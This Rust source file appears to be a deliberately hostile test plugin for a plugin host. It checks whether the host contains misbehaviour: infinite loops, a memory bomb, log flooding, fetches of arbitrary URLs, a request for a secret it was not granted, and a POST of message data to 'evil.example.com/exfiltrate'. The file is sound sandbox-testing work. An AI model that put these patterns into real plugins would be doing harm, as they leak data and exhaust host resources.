//! A misbehaving connector for the plugin host's tests. Its `parse-webhook` does what the body
//! says: `loop` spins forever, `bomb` allocates until the memory cap, `huge` returns 5 MiB,
//! `panic` panics, `log` floods the log, `clock`/`random` answer with the host's time or
//! random bytes; `hmac:SECRET:DATA` signs DATA with the channel's secret SECRET (HMAC-SHA256,
//! hex); `http:URL` GETs URL through the host; `http-swallow:URL` does too but ignores any
//! error and answers `swallowed`; `count` answers how many `count` calls this instance has
//! served (1 in a fresh instance); anything else parses fine. `build-send` of a message keyed
//! `evil` targets a host that is not granted; a channel called `greedy` names a secret that is
//! not granted.

use switchboard_core::outbound_auth::OutboundAuth;
use switchboard_core::webhook_auth::WebhookAuth;
use switchboard_core::{
    Capabilities, Channel, ChannelContext, ChannelSupport, Connector, ConnectorError,
    ConnectorInfo, DeliveryStatus, ErrorClass, HttpRequest, HttpResponse, Method, OutboundMessage,
    ProviderError, SecretName, SendReceipt, WebhookOutcome, WebhookReply, WebhookRequest,
    WindowPolicy,
};
use switchboard_plugin_sdk::{
    HmacAlgorithm, Level, RequestAuth, fill_random, hmac, http_send, log, now,
};

/// The hostile connector.
pub struct Hostile {
    info: ConnectorInfo,
}

impl Default for Hostile {
    fn default() -> Self {
        Self {
            info: ConnectorInfo {
                id: "hostile".into(),
                version: "0.1.0".into(),
                display_name: "Hostile test plugin".into(),
                channels: vec![ChannelSupport::new(
                    Channel::Sms,
                    Capabilities::new(1600, WindowPolicy::None),
                )],
                egress_hosts: vec!["api.example.com".into()],
            },
        }
    }
}

fn reply(body: String) -> WebhookOutcome {
    let mut outcome = WebhookOutcome::ok(Vec::new());
    outcome.reply = WebhookReply::with_body("text/plain", body);
    outcome
}

impl Connector for Hostile {
    fn info(&self) -> &ConnectorInfo {
        &self.info
    }

    fn webhook_auth(&self, ctx: &ChannelContext) -> Result<WebhookAuth, ConnectorError> {
        Ok(match ctx.channel_id.as_str() {
            "greedy" => WebhookAuth::HeaderToken {
                header: "X-Token".into(),
                token: SecretName::new("someone_elses_secret"),
            },
            "open" => WebhookAuth::None,
            _ => WebhookAuth::HeaderToken {
                header: "X-Token".into(),
                token: SecretName::new("token"),
            },
        })
    }

    fn outbound_auth(&self, _ctx: &ChannelContext) -> Result<OutboundAuth, ConnectorError> {
        Ok(OutboundAuth::Bearer {
            token: SecretName::new("token"),
        })
    }

    fn parse_webhook(
        &self,
        _ctx: &ChannelContext,
        req: &WebhookRequest,
    ) -> Result<WebhookOutcome, ConnectorError> {
        match req.body.as_slice() {
            b"loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            b"bomb" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            b"huge" => Ok(reply("x".repeat(5 << 20))),
            b"panic" => panic!("hostile plugin panics on purpose"),
            b"log" => {
                for i in 0..10_000 {
                    log(Level::Info, &format!("line {i}"));
                }
                Ok(reply("logged".into()))
            }
            b"clock" => Ok(reply(now().unix_seconds().to_string())),
            b"random" => {
                let mut buf = [0u8; 32];
                fill_random(&mut buf);
                Ok(reply(buf.iter().map(|b| format!("{b:02x}")).collect()))
            }
            b"count" => {
                static CALLS: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
                let n = CALLS.fetch_add(1, std::sync::atomic::Ordering::Relaxed) + 1;
                Ok(reply(n.to_string()))
            }
            b"malformed" => Err(ConnectorError::malformed("the body says so")),
            body if body.starts_with(b"hmac:") => {
                let text = String::from_utf8_lossy(&body[5..]).into_owned();
                let (secret, data) = text.split_once(':').unwrap_or((&text, ""));
                let mac = hmac(secret, HmacAlgorithm::Sha256, data.as_bytes())?;
                Ok(reply(mac.iter().map(|b| format!("{b:02x}")).collect()))
            }
            body if body.starts_with(b"http:") => {
                let url = String::from_utf8_lossy(&body[5..]).into_owned();
                let resp = http_send(&HttpRequest::new(Method::Get, url), RequestAuth::None)?;
                Ok(reply(format!(
                    "{} {}",
                    resp.status,
                    String::from_utf8_lossy(&resp.body)
                )))
            }
            body if body.starts_with(b"http-swallow:") => {
                let url = String::from_utf8_lossy(&body[13..]).into_owned();
                let _ = http_send(&HttpRequest::new(Method::Get, url), RequestAuth::None);
                Ok(reply("swallowed".into()))
            }
            _ => Ok(reply("ok".into())),
        }
    }

    fn build_send(
        &self,
        _ctx: &ChannelContext,
        msg: &OutboundMessage,
    ) -> Result<HttpRequest, ConnectorError> {
        let url = if msg.idempotency_key == "evil" {
            "https://evil.example.com/exfiltrate"
        } else {
            "https://api.example.com/send"
        };
        Ok(HttpRequest::new(Method::Post, url)
            .with_json(&serde_json::json!({"key": msg.idempotency_key})))
    }

    fn parse_send_response(
        &self,
        _ctx: &ChannelContext,
        _msg: &OutboundMessage,
        resp: &HttpResponse,
    ) -> Result<SendReceipt, ProviderError> {
        if resp.is_success() {
            Ok(SendReceipt::new("hostile-1", DeliveryStatus::Accepted))
        } else {
            Err(ProviderError::new(ErrorClass::Throttled, "slow down").with_code("429"))
        }
    }
}

switchboard_plugin_sdk::export_connector!(Hostile);
